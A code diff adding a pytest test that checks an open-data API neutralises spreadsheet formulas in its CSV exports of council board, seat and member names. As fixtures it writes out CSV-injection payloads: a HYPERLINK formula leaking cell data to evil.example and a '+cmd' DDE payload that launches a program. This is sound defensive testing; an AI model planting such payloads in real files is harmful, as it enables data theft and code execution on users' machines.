@@ -75,3 +75,27 @@ def test_open_data_is_scoped_and_bad_names_are_404():
     from rest_framework.test import APIClient
 
     assert_problem(APIClient().get("/api/v1/open-data/trusts/sandwell-trust/ocds.json"), 401)
+
+
+def test_open_data_csv_neutralises_formulas_in_every_cell():
+    """A name an officer typed as a formula is served as text, never as =HYPERLINK(...) a spreadsheet would run."""
+    from boards.models import Body
+    from tests.boards.factories import BodyFactory, MembershipFactory, PersonFactory, SeatFactory
+    from trustgov.organisations.models import Council
+
+    sandwell = Council.objects.get(slug="sandwell")
+    body = BodyFactory(council=sandwell, name='=HYPERLINK("https://evil.example/?leak="&A1,"Board")')
+    seat = SeatFactory(body=body, title="@SUM(A1:A9)")
+    MembershipFactory(seat=seat, person=PersonFactory(council=sandwell, name="+cmd|' /C calc'!A0"))
+    c = client_with(token_for("sandwell-scrutiny"))
+    bodies = list(
+        csv.DictReader(io.StringIO(c.get("/api/v1/open-data/trusts/sandwell-trust/bodies.csv").content.decode()))
+    )
+    row = next(r for r in bodies if r["id"] == str(body.pk))
+    assert row["name"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Board")'
+    assert Body.objects.get(pk=body.pk).name.startswith("=HYPERLINK(")  # stored as typed, neutralised on the way out
+    raw = c.get("/api/v1/open-data/trusts/sandwell-trust/memberships.csv").content.decode()
+    members = [r for r in csv.DictReader(io.StringIO(raw)) if r["seat__body__name"].startswith("'=HYPERLINK(")]
+    assert members and members[0]["seat__title"] == "'@SUM(A1:A9)"
+    assert members[0]["person__name"] == "'+cmd|' /C calc'!A0"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for line in csv.reader(io.StringIO(raw)) for cell in line)
